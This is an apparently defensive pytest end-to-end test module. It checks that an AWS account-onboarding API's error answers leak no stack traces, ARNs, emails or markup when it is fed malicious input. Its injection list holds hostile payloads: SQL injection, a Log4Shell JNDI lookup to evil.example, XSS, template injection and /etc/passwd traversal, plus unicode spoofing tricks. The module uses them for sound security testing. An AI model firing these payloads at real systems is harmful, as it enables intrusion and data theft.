"""Error answers of the HTTP API leak nothing, whatever a caller sends.

Malicious input (oversized bodies, unicode tricks, injection strings in every field,
another client's account) must get a 4xx whose body is the documented error shape
and holds no stack trace, no ARN, no email address (masked at most: not even the
caller's own), no markup or hidden character, and never another client's email or
name. Requests go over HTTP to the local API, through the real handler.
"""

import json
import re
import unicodedata
import uuid
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import pytest
import urllib3

from .conftest import FaultInjector, Harness, request_for
from .test_api import executions_count, finished, onboard

pytestmark = pytest.mark.e2e
http = urllib3.PoolManager(retries=False, timeout=120)

MAX_BODY_BYTES = 10 * 1024 * 1024  # API Gateway's limit for a request payload
# API Gateway's own answers (before the function runs): not the API's error shape.
GATEWAY_ANSWERS = {403: {"message": "Missing Authentication Token"}, 413: {"message": "Request Too Long"}}
ADDRESS = re.compile(r"[\w.!#$%&*+/?^`{|}~-]+(?:@|%40)[\w-]+(?:\.[\w-]+)+")
STACK_TRACE = re.compile(r'Traceback|File "|\.py"|stackTrace|line \d+, in ')
ARN = re.compile(r"arn:aws", re.IGNORECASE)
HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn"}
INJECTIONS = [
    "' OR '1'='1' --",
    "1; DROP TABLE accounts",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    '{"email": "intruder@evil.example", "admin": true}',
    "#pk = :v",
    "attribute_exists(pk) OR :v = :v",
    "../../etc/passwd",
]


@dataclass
class Answer:
    status: int
    raw: bytes
    content_type: str

    @property
    def body(self) -> Any:
        return json.loads(self.raw)

    @property
    def text(self) -> str:
        """The decoded body, every string as the client reads it."""
        return json.dumps(self.body, ensure_ascii=False)


@dataclass
class Victim:
    """Another client, with an account already onboarded."""

    client: str
    email: str
    account_id: str
    account_name: str
    onboarding_id: str

    @property
    def secrets(self) -> tuple[str, ...]:
        return (self.email, self.account_name, self.client)


def send(
    embedded: Harness,
    method: str,
    path: str,
    body: Any = None,
    headers: dict[str, str] | None = None,
) -> Answer:
    data = body if isinstance(body, str | bytes) or body is None else json.dumps(body)
    response = http.request(
        method,
        embedded.outputs["ApiUrl"] + path,
        body=data,
        headers={"content-type": "application/json", **(headers or {})},
    )
    return Answer(response.status, response.data, response.headers.get("content-type", ""))


def strings_of(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for key, item in value.items() for text in (*strings_of(key), *strings_of(item))]
    if isinstance(value, list):
        return [text for item in value for text in strings_of(item)]
    return []


def assert_leaks_nothing(
    answer: Answer, *, secrets: tuple[str, ...] = (), what: Any = None
) -> dict[str, Any]:
    """A 4xx of the documented shape saying nothing it should not; returns its ``error``."""
    where = (what, answer.status, answer.raw[:2000])
    assert 400 <= answer.status < 500, where
    assert answer.raw.isascii(), where  # hidden or bidi characters are never in the bytes either
    body = answer.body  # always JSON: an echo never breaks it
    assert "application/json" in answer.content_type, where
    text = answer.raw.decode() + answer.text
    assert not STACK_TRACE.search(text), where
    assert not ARN.search(text), where
    assert "<" not in answer.raw.decode() and ">" not in answer.raw.decode(), where
    assert [address for address in ADDRESS.findall(text) if "***" not in address] == [], where
    for secret in secrets:
        assert secret.lower() not in text.lower(), (secret, *where)
    for string in strings_of(body):
        assert not {unicodedata.category(character) for character in string} & HIDDEN, (string, *where)
    assert len(answer.raw) < 20_000, (what, answer.status, len(answer.raw))
    if answer.status in GATEWAY_ANSWERS and body == GATEWAY_ANSWERS[answer.status]:
        return {}
    assert set(body) == {"error"}, where
    error = body["error"]
    assert {"code", "message"} <= set(error) <= {"code", "message", "field", "details"}, where
    assert isinstance(error["code"], str) and isinstance(error["message"], str) and error["message"], where
    assert isinstance(error.get("field", ""), str), where
    assert isinstance(error.get("details", []), list) and len(error.get("details", [])) <= 20, where
    for detail in error.get("details", []):
        assert set(detail) == {"field", "message"}, where
        assert all(isinstance(value, str) for value in detail.values()), where
    return dict(error)


@pytest.fixture(scope="module")
def victim(embedded: Harness) -> Victim:
    marker = uuid.uuid4().hex[:8]
    request = request_for(marker, client=f"vc{marker}", email=f"aws+victim-{marker}@example.com")
    onboarding = finished(embedded, onboard(embedded, request))
    assert onboarding["status"] == "SUCCEEDED", onboarding
    return Victim(
        client=request["client"],
        email=request["email"],
        account_id=onboarding["accountId"],
        account_name=onboarding["accountName"],
        onboarding_id=onboarding["onboardingId"],
    )


def victims_request(victim: Victim, **changes: Any) -> dict[str, Any]:
    """A request for the victim's (registered) email: whatever passes validation is refused 409, nothing starts."""
    return {"client": "intruder", "project": "web", "email": victim.email, **changes}


# --------------------------------------------------------------------------- oversized bodies


def test_oversized_bodies_are_refused_without_echo(embedded: Harness, victim: Victim) -> None:
    before = executions_count(embedded)

    over_limit = send(embedded, "POST", "/accounts", b"x" * (MAX_BODY_BYTES + 1))
    assert over_limit.status == 413
    assert_leaks_nothing(over_limit, what="over API Gateway's 10 MB")

    near_limit = {**victims_request(victim), "accountName": "x" * (MAX_BODY_BYTES - 200)}
    error = assert_leaks_nothing(send(embedded, "POST", "/accounts", near_limit), what="10 MB accountName")
    assert error["field"] == "accountName"

    # 1 MB of JSON: huge strings, made of another client's email and tricks, in every field.
    huge = (victim.email + "<script>\u202e\u200d\x00") * 2500
    every_field = {
        name: huge
        for name in (
            "client",
            "project",
            "email",
            "accountName",
            "roleName",
            "ou",
            "accountId",
            "iamUserAccessToBilling",
        )
    }
    every_field["tags"] = {huge[:120_000]: huge[:120_000]}
    every_field[huge[:100_000]] = huge[:100_000]
    body = json.dumps(every_field)
    assert len(body) > 1024 * 1024
    answer = send(embedded, "POST", "/accounts", body)
    error = assert_leaks_nothing(answer, secrets=victim.secrets, what="1 MB of huge fields")
    assert answer.status == 422 and error["code"] == "ValidationError"
    assert {"client", "project", "email", "accountName"} <= {detail["field"] for detail in error["details"]}

    # 1 MB of unexpected keys: the answer names some of them, it does not echo them all.
    many_keys = json.dumps({f"{victim.email}-{index}": index for index in range(30_000)})
    answer = send(embedded, "POST", "/accounts", many_keys)
    error = assert_leaks_nothing(answer, secrets=victim.secrets, what="30,000 extra keys")
    assert answer.status == 422 and len(error["details"]) == 20

    # JSON Python cannot read: nested 100,000 deep, a number of 5,000 digits.
    for unreadable in ('{"tags": ' + "[" * 100_000 + "]" * 100_000 + "}", '{"client": ' + "7" * 5000 + "}"):
        answer = send(embedded, "POST", "/accounts", unreadable)
        error = assert_leaks_nothing(answer, what=unreadable[:30])
        assert answer.status == 400 and error["code"] == "InvalidJson"

    assert executions_count(embedded) == before


# --------------------------------------------------------------------------- unicode tricks

RTL, ZWJ, ZWSP = "\u202e", "\u200d", "\u200b"
UNICODE_TRICKS: list[tuple[str, str | bytes | dict[str, Any]]] = [
    ("RTL override in client", {"client": f"acme{RTL}bew"}),
    ("RTL override in accountName", {"accountName": f"acme{RTL}lanretni"}),
    ("RTL override in email", {"email": f"aws+{RTL}moc.elpmaxe@example.com"}),
    ("RTL override in a tag key", {"tags": {f"owner{RTL}": "x"}}),
    ("RTL override in an unexpected key", {f"evil{RTL}key": 1}),
    ("zero-width joiner in project", {"project": f"w{ZWJ}eb"}),
    ("zero-width space in a tag value", {"tags": {"owner": f"a{ZWSP}b"}}),
    ("zero-width joiner in an unexpected key", {f"x{ZWJ}@victim-mail.example.com": 1}),
    ("homoglyph email (Cyrillic a and e)", {"email": "\u0430ws+victim.owner@victim-mail.\u0435xample.com"}),
    ("fullwidth at sign", {"email": "aws+victim.owner\uff20victim-mail.example.com"}),
    ("NUL in client", {"client": "acme\x00web"}),
    ("NUL in email", {"email": "aws+victim.owner@victim-mail.example.com\x00"}),
    ("NUL in an unexpected key", {"\x00": 1}),
    ("lone surrogate in client", '{"client": "\\ud800", "project": "web", "email": "a@example.com"}'),
    ("lone surrogate in email", '{"client": "a", "project": "web", "email": "a\\udfff@example.com"}'),
    ("lone surrogate as a key", '{"\\ud800": 1, "client": "a", "project": "web", "email": "a@example.com"}'),
    ("overlong UTF-8 slash", b'{"client": "\xc0\xaf", "project": "web", "email": "a@example.com"}'),
    ("overlong UTF-8 three bytes", b'{"client": "\xe0\x80\xaf", "project": "web", "email": "a@example.com"}'),
    ("UTF-8-encoded surrogate", b'{"client": "\xed\xa0\x80", "project": "web", "email": "a@example.com"}'),
    ("byte order mark", "\ufeff" + json.dumps({"client": "a", "project": "web", "email": "a@example.com"})),
]


@pytest.mark.parametrize(("trick", "change"), UNICODE_TRICKS, ids=[trick for trick, _ in UNICODE_TRICKS])
def test_unicode_tricks_are_refused_without_echo(
    embedded: Harness, victim: Victim, trick: str, change: str | bytes | dict[str, Any]
) -> None:
    before = executions_count(embedded)
    body = victims_request(victim, **change) if isinstance(change, dict) else change

    answer = send(embedded, "POST", "/accounts", body)

    error = assert_leaks_nothing(answer, secrets=victim.secrets, what=trick)
    assert answer.status in (400, 422), (trick, error)
    assert executions_count(embedded) == before


# --------------------------------------------------------------------------- injection strings


def injection_requests(victim: Victim, injection: str) -> list[tuple[str, str, Any, dict[str, str], bool]]:
    """(method, path, body, headers, reflected as a key) with ``injection`` in each field in turn."""
    quoted = quote(injection, safe="")
    requests: list[tuple[str, str, Any, dict[str, str], bool]] = [
        ("POST", "/accounts", victims_request(victim, **{field: injection}), {}, False)
        for field in (
            "client",
            "project",
            "email",
            "accountName",
            "roleName",
            "ou",
            "iamUserAccessToBilling",
            "accountId",
        )
    ]
    requests += [
        ("POST", "/accounts", victims_request(victim, tags={injection: "v"}), {}, True),
        ("POST", "/accounts", victims_request(victim, tags={"k": injection}), {}, False),
        ("POST", "/accounts", victims_request(victim, **{injection: "x"}), {}, True),
        ("POST", "/accounts", victims_request(victim), {"Idempotency-Key": injection}, False),
        ("POST", "/accounts", victims_request(victim), {"content-type": injection}, False),
        ("POST", "/accounts/adopt", {"accountId": injection, "client": "a", "project": "b"}, {}, False),
    ]
    requests += [
        (
            "POST",
            "/accounts/adopt",
            {"accountId": victim.account_id, "client": "a", field: injection},
            {},
            False,
        )
        for field in ("client", "project", "roleName")
    ]
    requests += [
        ("GET", f"/accounts?{query}", None, {}, False)
        for query in (
            f"client={quoted}",
            f"client=acme&project={quoted}",
            f"status={quoted}",
            f"limit={quoted}",
            f"nextToken={quoted}",
            f"client=acme&nextToken={quoted}",
        )
    ]
    requests += [
        ("GET", f"/onboardings?{query}", None, {}, False)
        for query in (f"status={quoted}", f"limit={quoted}", f"nextToken={quoted}")
    ]
    # A path that no route matches is named back in the answer (escaped); reflected like a key.
    requests += [
        ("GET", f"/accounts/{quoted}", None, {}, True),
        ("GET", f"/onboardings/{quoted}", None, {}, True),
        ("POST", f"/onboardings/{quoted}/retry", None, {}, True),
    ]
    return requests


@pytest.mark.parametrize("injection", INJECTIONS)
def test_injection_strings_in_every_field_are_refused_without_echo(
    embedded: Harness, victim: Victim, injection: str
) -> None:
    before = executions_count(embedded)
    for method, path, body, headers, as_key in injection_requests(victim, injection):
        what = (method, path, body if not isinstance(body, dict) else list(body), headers)
        answer = send(embedded, method, path, body, headers)
        error = assert_leaks_nothing(answer, secrets=victim.secrets, what=what)
        if not as_key:
            assert injection not in answer.text, what  # a value is never echoed
        if answer.status == 409:  # it passed validation: the registered email stopped it
            assert error["code"] == "EmailAlreadyRegistered" and victim.account_id in error["message"], what
    assert executions_count(embedded) == before


def test_injection_strings_a_field_accepts_are_stored_as_sent(embedded: Harness, unique: str) -> None:
    """accountName is any printable ASCII (Organizations' rule) and tag values allow / and ."""
    name = "{{7*7}}' OR 1=1 --<b>#pk = :v ${x}"
    request = request_for(unique, accountName=name, tags={"path": "../../etc/passwd"})
    onboarding = finished(embedded, onboard(embedded, request))

    assert onboarding["status"] == "SUCCEEDED", onboarding
    assert onboarding["accountName"] == name
    account = embedded.account_item(onboarding["accountId"])
    assert account is not None
    assert account["accountName"] == name and account["tags"]["path"] == "../../etc/passwd"


# --------------------------------------------------------------------------- another client's account


def test_errors_about_another_clients_account_never_reveal_its_email_or_name(
    embedded: Harness, victim: Victim
) -> None:
    before = executions_count(embedded)
    attempts = [
        ("POST", "/accounts", victims_request(victim), {}),
        ("POST", "/accounts", victims_request(victim, email=victim.email.upper()), {}),
        ("POST", "/accounts", victims_request(victim, project="again"), {"Idempotency-Key": "intruder-1"}),
        (
            "POST",
            "/accounts/adopt",
            {"accountId": victim.account_id, "client": "intruder", "project": "x"},
            {},
        ),
    ]
    for method, path, body, headers in attempts:
        answer = send(embedded, method, path, body, headers)
        error = assert_leaks_nothing(answer, secrets=victim.secrets, what=(path, body))
        if path == "/accounts/adopt":  # the account itself is registered: named by its ID only
            assert answer.status == 409 and error["code"] == "AlreadyRegistered", error
            assert error["message"] == f"account {victim.account_id} is already registered as ACTIVE"
            continue
        assert answer.status == 409 and error["code"] == "EmailAlreadyRegistered", error
        assert error["message"] == f"this email is already registered to account {victim.account_id}"

    answer = send(embedded, "POST", f"/onboardings/{victim.onboarding_id}/retry")
    error = assert_leaks_nothing(answer, secrets=victim.secrets, what="retry of another's onboarding")
    assert answer.status == 409 and error["code"] == "NotRetryable"
    assert executions_count(embedded) == before


# --------------------------------------------------------------------------- failed onboardings


def assert_readable(cause: str | None, *secrets: str) -> None:
    assert cause, cause
    assert not STACK_TRACE.search(cause), cause
    assert not ARN.search(cause), cause
    assert not cause.lstrip().startswith("{"), cause  # the message, not the Lambda error's JSON
    for secret in secrets:
        assert secret.lower() not in cause.lower(), cause


def test_a_crashed_onboarding_shows_the_message_never_the_stack_trace(
    embedded: Harness, unique: str, faults: FaultInjector
) -> None:
    request = request_for(unique)
    faults.fail(
        "before-call.dynamodb.TransactWriteItems",
        "InternalServerError",
        times=100,
        status=500,
        when=lambda params: request["email"] in json.dumps(params),
    )
    onboarding = finished(embedded, onboard(embedded, request))

    assert onboarding["status"] == "FAILED"
    assert_readable(onboarding["cause"], request["email"])
    assert "InternalServerError" in onboarding["cause"]
    [step] = [step for step in onboarding["timeline"] if step["name"] == "RecordRequest"]
    assert step["status"] == "FAILED"
    assert_readable(step["cause"], request["email"])


def test_an_onboarding_refused_by_the_workflow_names_the_account_never_the_email(
    embedded: Harness, victim: Victim
) -> None:
    """Started without the API's early check (as the AWS CLI or an event would): the workflow's guard refuses it."""
    execution_arn = embedded.start(victims_request(victim, project="direct"))
    embedded.wait(execution_arn)
    onboarding_id = execution_arn.rsplit(":", 1)[1]

    answer = send(embedded, "GET", f"/onboardings/{onboarding_id}")
    assert answer.status == 200
    onboarding = answer.body
    assert onboarding["status"] == "FAILED" and onboarding["error"] == "EmailAlreadyRegistered"
    assert_readable(onboarding["cause"], *victim.secrets)
    assert f"account {victim.account_id}" in onboarding["cause"]
    assert "a***@example.com" in onboarding["cause"]  # masked
    [step] = [step for step in onboarding["timeline"] if step["name"] == "RecordRequest"]
    assert_readable(step["cause"], *victim.secrets)
